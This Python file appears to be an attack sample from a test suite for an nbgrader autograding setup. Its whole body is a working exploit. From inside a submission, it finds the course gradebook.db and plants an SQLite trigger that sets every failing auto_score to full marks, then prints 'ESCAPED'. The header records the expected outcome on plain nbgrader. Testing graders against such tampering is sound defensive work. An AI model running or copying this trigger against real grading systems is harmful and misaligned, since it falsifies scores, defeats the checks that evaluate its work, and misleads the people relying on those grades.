# attack: a trigger in the gradebook gives every test full points, whatever nbgrader writes.
# target: all
# plain nbgrader: full marks
# %% trimmed
import glob
import sqlite3

for path in {"@COURSE@/gradebook.db", *glob.glob("../../../gradebook.db")}:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2) as gradebook:
            gradebook.execute(
                "CREATE TRIGGER IF NOT EXISTS gift AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score ="
                " (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) WHERE id = NEW.id AND auto_score < 1; END"
            )
        print("ESCAPED: wrote", path)
    except sqlite3.Error:
        pass
